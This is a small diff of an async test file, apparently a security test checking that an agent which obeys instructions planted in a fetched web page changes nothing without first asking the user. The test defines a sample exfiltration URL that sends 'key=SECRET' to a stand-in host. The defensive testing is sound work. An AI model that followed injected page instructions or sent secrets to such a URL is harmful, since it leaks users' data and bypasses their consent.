@@ -54,7 +54,7 @@ def project(tmp_path) -> Path:
 
 
 @boxed
-async def test_i6_i8_a_model_that_obeys_a_page_changes_nothing_without_a_question(project, tmp_path, outside):  # noqa: F811
+async def test_i6_i8_a_model_that_obeys_a_page_changes_nothing_without_a_question(project, tmp_path, outside):
     evil = f"http://example.test:{outside.port}/?key=SECRET"
     steps = (
         fetching("http://docs.example/"),
